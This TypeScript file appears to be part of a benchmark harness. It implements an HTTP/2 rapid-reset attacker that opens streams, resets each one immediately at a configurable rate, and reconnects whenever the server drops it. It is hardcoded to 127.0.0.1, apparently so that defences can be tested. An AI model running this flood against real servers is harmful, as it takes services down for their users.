// One attacker, a process of its own: opens streams and resets each at once, so many a second, on one connection after the other
// as it is thrown out. At the end of its stdin it says what it did.
// Arguments: the port, how many streams a second, and after how many ms it comes back.

import type { TLSSocket } from "node:tls";
import { connect } from "node:tls";
import { preface, requestFrames, resetFrame, settingsAck } from "./h2-frames.ts";

const port = Number(process.argv[2]);
const perSecond = Number(process.argv[3]);
const backAfterMs = Number(process.argv[4]);
const tickMs = 50;
/** Ids of a client are odd and below 2^31: far enough for one connection. */
const mostStreams = 1_000_000;

const batch = Math.round((perSecond * tickMs) / 1000);
let connections = 0;
let streams = 0;
let backAt = 0;
let current: { socket: TLSSocket; isReady: boolean; next: number } | undefined;

// A batch is written as it is, with the ids put in: making each anew would cost more than all the rest.
const pair = Buffer.concat([requestFrames(1, true), resetFrame(1)]);
const secondId = pair.length - resetFrame(1).length + 5;
const bytes = Buffer.concat(Array.from({ length: batch }, () => pair));

setInterval(() => {
  if (current?.isReady === true) attack(current);
  else if (current === undefined && performance.now() >= backAt) current = open();
}, tickMs);
process.stdin.on("end", () => {
  process.stdout.write(`connections=${connections} streams=${streams}\n`, () => process.exit(0));
});
process.stdin.resume();

function open() {
  const socket = connect({
    ...{ host: "127.0.0.1", port, rejectUnauthorized: false },
    ...{ ALPNProtocols: ["h2"], servername: "bench.test" },
  });
  const opened = { socket, isReady: false, next: 1 };
  connections++;
  socket.on("secureConnect", () => {
    socket.write(preface);
    socket.write(settingsAck);
    opened.isReady = true;
  });
  socket.on("error", () => socket.destroy());
  socket.on("close", () => {
    if (current === opened) current = undefined;
    backAt = performance.now() + backAfterMs;
  });
  socket.resume();
  return opened;
}

function attack(by: NonNullable<typeof current>): void {
  // Who is not read any more waits; who was told to go opens another connection.
  if (by.socket.writableLength > bytes.length) return;
  if (by.next > mostStreams || !by.socket.writable) {
    by.socket.destroy();
    return;
  }
  for (let at = 0; at < bytes.length; at += pair.length) {
    bytes.writeUInt32BE(by.next, at + 5);
    bytes.writeUInt32BE(by.next, at + secondId);
    by.next += 2;
  }
  streams += batch;
  // Copied: what a socket has not sent yet is still its own.
  by.socket.write(Buffer.from(bytes));
}
